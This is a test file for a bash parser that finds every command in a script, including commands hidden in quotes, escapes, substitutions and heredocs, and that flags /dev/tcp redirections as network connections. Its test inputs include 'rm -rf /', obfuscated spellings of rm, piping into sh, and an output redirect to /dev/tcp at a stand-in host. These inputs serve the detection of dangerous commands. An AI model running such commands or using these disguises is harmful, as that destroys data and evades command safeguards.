// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are bash source, where ${…} is parameter expansion
/** The bash parser: quote removal, every command found, problems reported, agreement with mvdan/sh. */
import { spawnSync } from 'node:child_process'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseScript, staticWords } from '../../../src/commands/shell/parse.js'
import { DYNAMIC, referenceCommands } from './reference-parser.js'

function commands(source: string): string[][] {
  return parseScript(source)
    .items.filter((item) => item.type === 'command' && item.words.length > 0)
    .map((item) => (item.type === 'command' ? item.words.map((w) => (w.dynamic ? DYNAMIC : w.text)) : []))
}

function problems(source: string): string[] {
  return parseScript(source).items.flatMap((item) => (item.type === 'problem' ? [item.reason] : []))
}

function redirects(source: string): string[] {
  return parseScript(source).items.flatMap((item) =>
    item.type === 'redirect'
      ? [`${item.act} ${item.target.text}${item.target.dynamic ? ' (dynamic)' : ''}`]
      : [],
  )
}

const sorted = (list: string[][]): string[] => list.map((c) => JSON.stringify(c)).sort()

/** Scripts bash accepts and tether analyses fully: both parsers must find the same commands. */
const CORPUS = [
  'echo a; rm -rf /',
  'a && b || c | d |& e',
  'echo $(rm x) `ls -la`',
  'cat <(rm y) >(tee z)',
  'r"m" -rf',
  "'r'm x",
  'r\\m \\-rf',
  '( rm a ); { rm b; }',
  'if x; then rm y; elif z; then w; else v; fi',
  'while read l; do echo "$l"; done < in.txt',
  'until false; do break; done',
  'for f in *.ts src/a.js; do echo "$f"; done',
  'for f; do echo; done',
  'case $x in a|b) rm a;; (*) ls;; esac',
  'f() { rm z; }; f',
  'function g { git push; }',
  'a=1 b=2 cmd arg',
  'x=$(date) y=`pwd`',
  'arr=(one "two three" $(four))',
  'rm\nls\n\n# comment\nls -l # trailing',
  'echo "a \\"quoted\\" \\$HOME \\\\ b"',
  "echo 'it'\\''s'",
  'echo a\\\nb',
  'cat <<EOF > f.txt\nhello $(whoami)\nEOF\necho done',
  "cat <<'EOF'\n$(not run)\nEOF",
  'cat <<-EOF\n\tbody `id`\n\tEOF\nls',
  '[[ -f x && $y == z ]] && echo ok',
  'echo ${x:-$(rm q)} ${#y} ${z%.ts}',
  'git status 2>/dev/null | head -n 5',
  "find . -name '*.js' -exec rm {} \\;",
  'echo {a,b} {}',
  'time -p npm test',
  '! grep -q x file',
  'nohup npm start &',
  'echo a;echo b&echo c',
  'exec 3>&1 4<&0',
  'ls -la >out.txt 2>&1 &>all.log',
  'cd src && npm test -- --watch=false',
  'echo "$(echo "$(rm deep)")"',
  'x=`echo \\`rm nested\\``',
  'select_thing=1; echo $select_thing',
  'echo done fi then',
  'select x in a b; do rm y; done',
  'coproc rm z',
  'coproc NAME { rm w; }',
  'printf "a b" | sh',
  'ls > >(rm x)',
  'while read l; do echo "$l"; done < <(ls)',
]

describe('the bash parser agrees with mvdan/sh', () => {
  it.each(CORPUS)('%j', (source) => {
    const reference = referenceCommands(source)
    expect(reference, 'mvdan/sh accepts it').toBeDefined()
    expect(sorted(commands(source))).toEqual(sorted(reference!))
  })

  const INVALID = [
    'echo "unterminated',
    "echo 'open",
    'if x; then y',
    '( a',
    'a |',
    'a && ',
    'echo $(a',
    'for do',
    ')',
    'case x in',
    '{ a }',
    'a ;; b',
  ]
  it.each(INVALID)('reports a problem for %j, which bash rejects', (source) => {
    expect(referenceCommands(source), 'mvdan/sh rejects it').toBeUndefined()
    expect(problems(source).length).toBeGreaterThan(0)
  })

  it('agrees on random scripts built from quoted words and operators', () => {
    const piece = fc.constantFrom(
      'a',
      'b',
      'rm',
      ' ',
      '-',
      '.',
      '/',
      '=',
      ';',
      '|',
      '&',
      '$',
      '"',
      "'",
      '\\',
      '#',
      '*',
      '(',
      ')',
      '\t',
      '\n',
      'é',
    )
    const segment = fc.record({
      text: fc.array(piece, { minLength: 1, maxLength: 4 }).map((chars) => chars.join('')),
      quoting: fc.constantFrom('single', 'double', 'backslash', 'plain'),
    })
    const word = fc.array(segment, { minLength: 1, maxLength: 3 })
    const command = fc.array(word, { minLength: 1, maxLength: 4 })
    const operator = fc.constantFrom('; ', ' && ', ' || ', ' | ', '\n', ' & ')
    const script = fc.array(
      fc.tuple(
        command,
        operator,
        fc.constantFrom(
          'plain',
          'subshell',
          'group',
          'substitution',
          'nested',
          'for',
          'while',
          'read',
          'printf',
          'arithmetic',
        ),
      ),
      {
        minLength: 1,
        maxLength: 4,
      },
    )
    fc.assert(
      fc.property(script, (parts) => {
        const expected: string[][] = []
        let source = ''
        for (const [words, op, shape] of parts) {
          const rendered: string[] = []
          const texts: string[] = []
          for (const segments of words) {
            let spelled = ''
            let text = ''
            for (const { text: raw, quoting } of segments) {
              text += raw
              spelled += spell(raw, quoting)
            }
            rendered.push(spelled)
            texts.push(text)
          }
          const line = rendered.join(' ')
          switch (shape) {
            case 'substitution':
              source += `echo "$(${line})"`
              expected.push(['echo', DYNAMIC])
              break
            case 'subshell':
              source += `(${line})`
              break
            case 'group':
              source += `{ ${line}; }`
              break
            case 'nested':
              source += `( (${line}) )`
              break
            case 'for':
              // The loop assigns its variable (no command); its body runs.
              source += `for v in x "y z"; do ${line}; done`
              break
            case 'while':
              source += `while ${line}; do :; done`
              expected.push([':'])
              break
            case 'read':
              source += `read -r v; ${line}`
              expected.push(['read', '-r', 'v'])
              break
            case 'printf':
              source += `printf -v v '%s' x; ${line}`
              expected.push(['printf', '-v', 'v', '%s', 'x'])
              break
            case 'arithmetic':
              source += `(( v = 1 + 2 )); ${line}`
              break
            default:
              source += line
          }
          expected.push(texts)
          source += op
        }
        source = source.replace(/ & $| \| $| && $| \|\| $/, '')
        const reference = referenceCommands(source)
        expect(reference, source).toBeDefined()
        expect(sorted(commands(source)), source).toEqual(sorted(reference!))
        expect(sorted(commands(source)), source).toEqual(sorted(expected))
      }),
      { numRuns: 300 },
    )
  })
})

describe('forms bash reads differently from mvdan/sh', () => {
  // bash reads `((` that does not close with `))` as two subshells; mvdan/sh rejects these.
  it.each([
    ['((rm -rf /) )', [['rm', '-rf', '/']]],
    [
      '((echo a); (rm b))',
      [
        ['echo', 'a'],
        ['rm', 'b'],
      ],
    ],
    [
      'echo $((rm x) )',
      [
        ['echo', DYNAMIC],
        ['rm', 'x'],
      ],
    ],
    ['((ls) ) && (( 1 + 2 ))', [['ls']]],
  ])('%j', (source, expected) => {
    expect(referenceCommands(source), 'mvdan/sh rejects it').toBeUndefined()
    expect(spawnSync('bash', ['-n', '-c', source]).status, 'bash accepts it').toBe(0)
    expect(sorted(commands(source))).toEqual(sorted(expected))
  })

  it('reads `((X) )` as `( (X) )` for random commands, as bash does', () => {
    const word = fc.constantFrom('a', 'rm', '-rf', '/', 'x', '"q q"', "'s'")
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), (words) => {
        const line = words.join(' ')
        expect(commands(`((${line}) )`)).toEqual(commands(`( (${line}) )`))
        expect(commands(`echo $((${line}) )`)).toEqual(commands(`echo $( (${line}) )`))
      }),
      { numRuns: 200 },
    )
  })

  it('expands static braces where bash does', () => {
    const expanded = (source: string) =>
      parseScript(source).items.flatMap((item) =>
        item.type === 'command' ? [item.words.flatMap((w) => w.braces ?? [w.text])] : [],
      )
    expect(expanded('{rm,-rf,/}')).toEqual([['rm', '-rf', '/']])
    expect(expanded('echo a{b,c}d {1..3} {a..c..2} x{y,{z,w}}')).toEqual([
      ['echo', 'abd', 'acd', '1', '2', '3', 'a', 'c', 'xy', 'xz', 'xw'],
    ])
    expect(expanded('echo "{a,b}" {a} {} {a,b')).toEqual([['echo', '{a,b}', '{a}', '{}', '{a,b']])
  })
})

/** A text spelled in bash so that it reads back as exactly `text`. */
function spell(text: string, quoting: string): string {
  switch (quoting) {
    case 'single':
      return `'${text.replace(/'/g, `'\\''`)}'`
    case 'double':
      return `"${text.replace(/[\\"$`]/g, '\\$&')}"`
    default:
      // Every character escaped; a newline cannot be escaped (it would continue the line), so quote it.
      return [...text].map((c) => (c === '\n' ? "'\n'" : `\\${c}`)).join('')
  }
}

describe('quote removal and expansions', () => {
  it('resolves quotes and backslashes as bash does', () => {
    expect(commands(`r"m" 'a b' c\\ d "e\\"f" 'g'\\''h' \\$x "\\q"`)).toEqual([
      ['rm', 'a b', 'c d', 'e"f', "g'h", '$x', '\\q'],
    ])
  })

  it('decodes ANSI-C quoting', () => {
    expect(commands("$'\\x72\\x6d' $'a\\tb' $'\\u200b' $'\\101' $'\\cA'")).toEqual([
      ['rm', 'a\tb', '\u200b', 'A', '\x01'],
    ])
  })

  it('marks parameters, substitutions, globs and brace expansions as known only at run time', () => {
    expect(commands('$X ${Y} $(z) `w` *.ts a?c [ab] {a,b} {1..3} "$q" plain {} [').slice(0, 1)).toEqual([
      [
        DYNAMIC,
        DYNAMIC,
        DYNAMIC,
        DYNAMIC,
        DYNAMIC,
        DYNAMIC,
        DYNAMIC,
        DYNAMIC,
        DYNAMIC,
        DYNAMIC,
        'plain',
        '{}',
        '[',
      ],
    ])
    expect(commands('"*.ts" \'?\' \\*')).toEqual([['*.ts', '?', '*']])
  })

  it('judges redirections as reads and writes, and /dev/tcp as a connection', () => {
    expect(
      redirects('cmd > out 2>> err <in <> both &> all 2>&1 >&2 3<&- >/dev/null > "$f" <<< here'),
    ).toEqual([
      'write out',
      'write err',
      'read in',
      'read both',
      'write both',
      'write all',
      'write $f (dynamic)',
    ])
    const net = parseScript('echo hi > /dev/tcp/evil.example/80').items.filter((i) => i.type === 'net')
    expect(net).toEqual([{ type: 'net', target: 'evil.example:80', depth: 0 }])
  })

  it('finds commands in substitutions inside parameter defaults, heredocs and process substitutions', () => {
    expect(commands('echo ${x:-$(rm a)}').flat()).toContain('rm')
    expect(commands('cat <<X\n`rm b`\nX').flat()).toContain('rm')
    expect(commands('diff <(rm c) <(ls)').flat()).toContain('rm')
    expect(commands("cat <<'X'\n$(rm d)\nX").flat()).not.toContain('rm')
  })

  it('reports what it does not analyse instead of guessing', () => {
    expect(problems('echo $((1+2))')).toHaveLength(0)
    expect(problems('echo $((a[$(id)]))')).toHaveLength(1)
    expect(problems('echo $(("1" + x))')).toHaveLength(1)
    expect(problems('a[$i]=1')).toHaveLength(1)
    expect(problems('echo ${!name}')).toHaveLength(1)
    expect(problems('echo ${x@P}')).toHaveLength(1)
    expect(problems('[[ $a -eq $(id) ]]')).toHaveLength(1)
    expect(problems('[[ 2 -eq 1 ]]')).toHaveLength(0)
    expect(problems('echo ?(a|b)')).toHaveLength(1)
    expect(problems('x'.repeat(70_000))).toHaveLength(1)
    expect(problems('$('.repeat(40))).toHaveLength(1)
  })

  it('reports arithmetic on variables with the names it reads and assigns', () => {
    const arithmetic = (source: string) =>
      parseScript(source).items.flatMap((item) =>
        item.type === 'arithmetic' ? [{ names: item.names, assigned: item.assigned }] : [],
      )
    expect(arithmetic('echo $((i + 1))')).toEqual([{ names: ['i'], assigned: [] }])
    expect(arithmetic('(( x = y ))')).toEqual([{ names: ['x', 'y'], assigned: ['x'] }])
    expect(arithmetic('for ((i = 0; i < n; i++)); do :; done')).toEqual([
      { names: ['i', 'n'], assigned: ['i', 'i'] },
    ])
    expect(arithmetic('[[ $a -eq 1 ]]')).toEqual([{ names: ['a'], assigned: [] }])
    expect(arithmetic('echo $((0x1f + 2#101))')).toEqual([])
  })

  it('splits static command lines and refuses dynamic ones', () => {
    expect(staticWords(`git commit -m 'a b'`)).toEqual(['git', 'commit', '-m', 'a b'])
    expect(staticWords('git $x')).toBeUndefined()
    expect(staticWords('a; b')).toBeUndefined()
  })
})
